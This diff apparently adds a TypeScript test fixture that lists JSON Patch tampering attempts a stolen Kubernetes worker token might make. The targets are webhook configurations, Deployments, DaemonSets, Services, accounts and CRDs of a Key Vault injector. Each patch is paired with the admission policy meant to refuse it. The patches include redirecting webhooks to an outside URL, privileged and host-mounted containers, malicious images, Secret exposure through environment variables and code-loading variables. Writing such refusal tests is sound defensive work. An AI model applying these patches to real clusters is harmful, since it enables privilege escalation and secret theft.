@@ -1,0 +1,298 @@
+/** What a stolen token of the worker would make of the objects that healing may write, one JSON Patch each. */
+
+import type { Operation as PatchOperation } from "fast-json-patch";
+
+export type Operation = PatchOperation;
+
+export interface Target {
+  /** As a sentence names it. */
+  readonly name: string;
+  /** Of the collection. */
+  readonly collection: string;
+  readonly object: string;
+  /** Policies of which one refuses it, as a pattern. */
+  readonly policy: string;
+  readonly changes: Readonly<Record<string, readonly Operation[]>>;
+  /** Changes that only an object that is there can have. */
+  readonly onlyOnUpdate?: readonly string[];
+  /** Changes of fields that cannot be changed later. */
+  readonly onlyAnew?: readonly string[];
+}
+
+const add = (path: string, value: unknown): Operation => ({ op: "add", path, value });
+const replace = (path: string, value: unknown): Operation => ({ op: "replace", path, value });
+const remove = (path: string): Operation => ({ op: "remove", path });
+
+const OWN = "keyvault-injector";
+const EVERYTHING = { apiGroups: ["*"], apiVersions: ["*"], operations: ["*"], resources: ["*/*"], scope: "*" };
+const HELD: Readonly<Record<string, readonly Operation[]>> = {
+  "a finalizer": [add("/metadata/finalizers", ["example.com/hold"])],
+  "an owner": [add("/metadata/ownerReferences", [{ apiVersion: "v1", kind: "Namespace", name: "default", uid: "0" }])],
+};
+
+const REGISTRATION = "/apis/admissionregistration.k8s.io/v1";
+
+/** A CA of nobody, whose key was thrown away. */
+const FOREIGN_CA = Buffer.from(
+  `-----BEGIN CERTIFICATE-----
+MIIBfDCCASGgAwIBAgIUNs1n45Id0jAodTAbLGeOpuan160wCgYIKoZIzj0EAwIw
+EjEQMA4GA1UEAwwHcGxhbnRlZDAgFw0yNjExMjYxNzE0NTlaGA8yMTI2MTEwMjE3
+MTQ1OVowEjEQMA4GA1UEAwwHcGxhbnRlZDBZMBMGByqGSM49AgEGCCqGSM49AwEH
+A0IABF11MAyvjjCfaYZM/yFgTEhhXTSWuTwTdBPSYywmDJ3LBz1JISBykE0HVbCH
+JDzbSQQdZv/Mrrctvd+Y86nOwVSjUzBRMB0GA1UdDgQWBBSg0cIMPZqvmCmJ5zr4
+GbddDsSDbjAfBgNVHSMEGDAWgBSg0cIMPZqvmCmJ5zr4GbddDsSDbjAPBgNVHRMB
+Af8EBTADAQH/MAoGCCqGSM49BAMCA0kAMEYCIQDm0mLhN8g9mttGq0qVLDOGotUw
+x4HcY0zS0PsRDcY7RQIhAMa2sNFLWuMi+7+rYWc7xxxT/1nd54pNJnZfmzilpcTr
+-----END CERTIFICATE-----
+`,
+).toString("base64");
+
+/** Of the entry at the index. */
+function webhookChanges(index: number): Readonly<Record<string, readonly Operation[]>> {
+  const entry = `/webhooks/${index}`;
+  return {
+    "a rule for everything": [replace(`${entry}/rules`, [EVERYTHING])],
+    "one more rule": [add(`${entry}/rules/-`, EVERYTHING)],
+    "another operation": [add(`${entry}/rules/0/operations/-`, "DELETE")],
+    "other resources": [replace(`${entry}/rules/0/resources`, ["secrets"])],
+    "every namespace": [replace(`${entry}/namespaceSelector`, {})],
+    "its own namespace": [replace(`${entry}/namespaceSelector/matchExpressions/0/values`, ["kube-system"])],
+    "kube-system": [replace(`${entry}/namespaceSelector/matchExpressions/0/values`, [OWN])],
+    "no match condition": [remove(`${entry}/matchConditions`)],
+    "a match condition that is always true": [replace(`${entry}/matchConditions/0/expression`, "true")],
+    "a URL": [replace(`${entry}/clientConfig`, { url: "https://elsewhere.example/" })],
+    "another service": [replace(`${entry}/clientConfig/service/name`, "other")],
+    "a service of another namespace": [replace(`${entry}/clientConfig/service/namespace`, "default")],
+    "another path": [replace(`${entry}/clientConfig/service/path`, "/livez")],
+    "another port": [replace(`${entry}/clientConfig/service/port`, 8443)],
+    "another CA": [add(`${entry}/clientConfig/caBundle`, FOREIGN_CA)],
+    "a closed failure policy": [replace(`${entry}/failurePolicy`, "Fail")],
+    "another match policy": [replace(`${entry}/matchPolicy`, "Exact")],
+    "half a minute for every request": [replace(`${entry}/timeoutSeconds`, 30)],
+    "other side effects": [replace(`${entry}/sideEffects`, "NoneOnDryRun")],
+    "another review version": [add(`${entry}/admissionReviewVersions/-`, "v1beta1")],
+    "another name": [replace(`${entry}/name`, "other.example.com")],
+    "a second entry": [
+      { op: "copy", from: entry, path: "/webhooks/-" },
+      replace(`/webhooks/${index + 1}/name`, "second.example.com"),
+      replace(`/webhooks/${index + 1}/rules`, [EVERYTHING]),
+    ],
+    "a certificate that somebody else has published": [
+      add("/metadata/annotations", { "cert-manager.io/inject-ca-from": "default/of-the-attacker" }),
+    ],
+    ...HELD,
+  };
+}
+
+const POD = "/spec/template/spec";
+const CONTAINER = `${POD}/containers/0`;
+
+const VOLUMES: Readonly<Record<string, unknown>> = {
+  "a folder of the host": { name: "root", hostPath: { path: "/" } },
+  "a Secret as files": { name: "creds", secret: { secretName: "keyvault-injector-ca" } },
+  "a token for anybody": { name: "token", projected: { sources: [{ serviceAccountToken: { path: "token", audience: "vault" } }] } },
+};
+
+/** Into a list that is there, or one of their own. */
+const volumeChanges = (hasVolumes: boolean): Readonly<Record<string, readonly Operation[]>> =>
+  Object.fromEntries(
+    Object.entries(VOLUMES).map(([what, volume]) => [
+      what,
+      [hasVolumes ? add(`${POD}/volumes/-`, volume) : add(`${POD}/volumes`, [volume])],
+    ]),
+  );
+
+const POD_CHANGES: Readonly<Record<string, readonly Operation[]>> = {
+  "another image": [replace(`${CONTAINER}/image`, "registry.example/evil:1")],
+  "another image under the tag that is there": [replace(`${CONTAINER}/image`, "registry.example/keyvault-injector:0.4.0")],
+  "another command": [add(`${CONTAINER}/command`, ["node", "-e", "0"])],
+  "a word that is no flag": [add(`${CONTAINER}/args/-`, "elsewhere.js")],
+  "another account": [replace(`${POD}/serviceAccountName`, "secrets-store-csi-driver"), replace(`${POD}/serviceAccount`, "default")],
+  "the host's processes": [add(`${POD}/hostPID`, true)],
+  "the host's memory": [add(`${POD}/hostIPC`, true)],
+  "a Secret as variables": [add(`${CONTAINER}/envFrom`, [{ secretRef: { name: "keyvault-injector-ca" } }])],
+  "a variable of a Secret": [
+    add(`${CONTAINER}/env/-`, { name: "KEY", valueFrom: { secretKeyRef: { name: "keyvault-injector-ca", key: "ca.key" } } }),
+  ],
+  "a variable that loads code": [add(`${CONTAINER}/env/-`, { name: "NODE_OPTIONS", value: "--import=data:text/javascript,0" })],
+  privileges: [add(`${CONTAINER}/securityContext`, { privileged: true })],
+  "another capability": [add(`${CONTAINER}/securityContext`, { capabilities: { add: ["SYS_ADMIN"] } })],
+  "one more container": [add(`${POD}/containers/-`, { name: "more", image: "registry.example/evil:1" })],
+  "a container before it": [add(`${POD}/initContainers`, [{ name: "before", image: "registry.example/evil:1" }])],
+  "a command after its start": [add(`${CONTAINER}/lifecycle`, { postStart: { exec: { command: ["node", "-e", "0"] } } })],
+  "a command as its probe": [add(`${CONTAINER}/livenessProbe`, { exec: { command: ["node", "-e", "0"] } })],
+  "a port of the host": [add(`${CONTAINER}/ports/-`, { name: "host", containerPort: 4443, hostPort: 4443 })],
+  "a node of its choice": [add(`${POD}/nodeName`, "node-1")],
+  "an annotation that has something put into the pod": [
+    add("/spec/template/metadata/annotations", { "sidecar.example.com/inject": "true" }),
+  ],
+  "another runtime": [add(`${POD}/runtimeClassName`, "other")],
+  "other names of hosts": [add(`${POD}/hostAliases`, [{ ip: "192.0.2.1", hostnames: ["vault.azure.net"] }])],
+  ...HELD,
+};
+
+const without = (names: readonly string[]): Readonly<Record<string, readonly Operation[]>> =>
+  Object.fromEntries(Object.entries(POD_CHANGES).filter(([name]) => !names.includes(name)));
+
+const CORE = "/api/v1/namespaces";
+const APPS = "/apis/apps/v1/namespaces";
+const PODS = "keyvault-injector-sync-(pods|workloads)";
+const COMPONENTS = "keyvault-injector-sync-components";
+
+const ACCOUNT_CHANGES: Readonly<Record<string, readonly Operation[]>> = {
+  "a Secret": [add("/secrets", [{ name: "keyvault-injector-ca" }])],
+  "its token in every pod": [add("/automountServiceAccountToken", true)],
+  ...HELD,
+};
+
+export const TARGETS: readonly Target[] = [
+  {
+    name: "the configuration that injects",
+    collection: `${REGISTRATION}/mutatingwebhookconfigurations`,
+    object: OWN,
+    policy: "keyvault-injector-sync-webhooks",
+    changes: { ...webhookChanges(0), "another reinvocation": [replace("/webhooks/0/reinvocationPolicy", "Never")] },
+  },
+  {
+    name: "the configuration that warns",
+    collection: `${REGISTRATION}/validatingwebhookconfigurations`,
+    object: OWN,
+    policy: "keyvault-injector-sync-webhooks",
+    changes: webhookChanges(1),
+  },
+  {
+    name: "the worker's Deployment",
+    collection: `${APPS}/${OWN}/deployments`,
+    object: "keyvault-injector-sync",
+    policy: PODS,
+    changes: { ...POD_CHANGES, ...volumeChanges(false), "the host's network": [add(`${POD}/hostNetwork`, true)] },
+  },
+  {
+    name: "the webhook's Deployment",
+    collection: `${APPS}/${OWN}/deployments`,
+    object: "keyvault-injector-webhook",
+    policy: PODS,
+    changes: { ...POD_CHANGES, ...volumeChanges(false), "the host's network": [add(`${POD}/hostNetwork`, true)] },
+  },
+  {
+    name: "the driver's DaemonSet",
+    collection: `${APPS}/kube-system/daemonsets`,
+    object: "csi-secrets-store",
+    policy: PODS,
+    // It is privileged, and its account is the driver's.
+    changes: {
+      ...without(["privileges", "another capability", "another account"]),
+      ...volumeChanges(true),
+      "another account": [replace(`${POD}/serviceAccountName`, "default"), replace(`${POD}/serviceAccount`, "default")],
+      "another flag": [add(`${CONTAINER}/args/-`, "--v=9")],
+      "the host's network": [add(`${POD}/hostNetwork`, true)],
+    },
+  },
+  {
+    name: "the provider's DaemonSet",
+    collection: `${APPS}/kube-system/daemonsets`,
+    object: "csi-secrets-store-provider-azure",
+    policy: PODS,
+    changes: {
+      // On the host's network a port without its host's port is none.
+      ...without(["a port of the host"]),
+      ...volumeChanges(true),
+      "a variable of a Secret": [
+        add(`${CONTAINER}/env`, [{ name: "KEY", valueFrom: { secretKeyRef: { name: "keyvault-injector-ca", key: "ca.key" } } }]),
+      ],
+      "a variable that loads code": [add(`${CONTAINER}/env`, [{ name: "GODEBUG", value: "x" }])],
+      "another flag": [add(`${CONTAINER}/args/-`, "--v=9")],
+    },
+  },
+  {
+    name: "the webhook's Service",
+    collection: `${CORE}/${OWN}/services`,
+    object: "keyvault-injector-webhook",
+    policy: COMPONENTS,
+    changes: {
+      "other pods": [replace("/spec/selector", { app: "elsewhere" })],
+      "no pods": [remove("/spec/selector")],
+      "a name of somebody's DNS": [
+        replace("/spec", { type: "ExternalName", externalName: "elsewhere.example", ports: [{ name: "admission", port: 443 }] }),
+      ],
+      "an address from outside": [add("/spec/externalIPs", ["192.0.2.1"])],
+      "another port": [replace("/spec/ports/0/targetPort", 9090)],
+      "a way in from outside": [replace("/spec/type", "NodePort")],
+      "pods that are not ready": [add("/spec/publishNotReadyAddresses", true)],
+      ...HELD,
+    },
+  },
+  {
+    name: "the webhook's account",
+    collection: `${CORE}/${OWN}/serviceaccounts`,
+    object: "keyvault-injector-webhook",
+    policy: COMPONENTS,
+    changes: ACCOUNT_CHANGES,
+  },
+  {
+    name: "the driver's account",
+    collection: `${CORE}/kube-system/serviceaccounts`,
+    object: "secrets-store-csi-driver",
+    policy: COMPONENTS,
+    changes: ACCOUNT_CHANGES,
+  },
+  {
+    name: "the webhook's budget",
+    collection: `/apis/policy/v1/namespaces/${OWN}/poddisruptionbudgets`,
+    object: "keyvault-injector-webhook",
+    policy: COMPONENTS,
+    changes: {
+      "no drain of any node": [replace("/spec/maxUnavailable", 0)],
+      "everybody's pods": [replace("/spec/selector", {})],
+      "a number that must be there": [remove("/spec/maxUnavailable"), add("/spec/minAvailable", 2)],
+      ...HELD,
+    },
+  },
+  {
+    name: "the PriorityClass",
+    collection: "/apis/scheduling.k8s.io/v1/priorityclasses",
+    object: OWN,
+    policy: COMPONENTS,
+    changes: {
+      "every pod of the cluster": [add("/globalDefault", true)],
+      "another value": [replace("/value", 5)],
+      ...HELD,
+    },
+    onlyAnew: ["another value"],
+  },
+  {
+    name: "the CSIDriver",
+    collection: "/apis/storage.k8s.io/v1/csidrivers",
+    object: "secrets-store.csi.k8s.io",
+    policy: COMPONENTS,
+    changes: {
+      "tokens for the API server": [add("/spec/tokenRequests/-", { audience: "" })],
+      "tokens for another audience": [replace("/spec/tokenRequests", [{ audience: "api://elsewhere" }])],
+      "volumes that outlive pods": [replace("/spec/volumeLifecycleModes", ["Ephemeral", "Persistent"])],
+      "pods that OpenShift keeps out": [add("/metadata/labels/security.openshift.io~1csi-ephemeral-volume-profile", "privileged")],
+      ...HELD,
+    },
+    onlyAnew: ["volumes that outlive pods"],
+  },
+  {
+    name: "the definition of classes",
+    collection: "/apis/apiextensions.k8s.io/v1/customresourcedefinitions",
+    object: "secretproviderclasses.secrets-store.csi.x-k8s.io",
+    policy: "keyvault-injector-sync-definitions",
+    changes: {
+      "a conversion webhook": [
+        replace("/spec/conversion", {
+          strategy: "Webhook",
+          webhook: { conversionReviewVersions: ["v1"], clientConfig: { url: "https://elsewhere.example/" } },
+        }),
+      ],
+      "no secretObjects": [remove("/spec/versions/0/schema/openAPIV3Schema/properties/spec/properties/secretObjects")],
+      "no parameters": [remove("/spec/versions/0/schema/openAPIV3Schema/properties/spec/properties/parameters")],
+      "no version of the driver": [remove("/spec/versions/1")],
+      "a version that is not served": [replace("/spec/versions/0/served", false)],
+      ...HELD,
+    },
+    // Made anew it may come with fewer versions, as a newer driver's does.
+    onlyOnUpdate: ["no version of the driver", "a version that is not served"],
+  },
+];
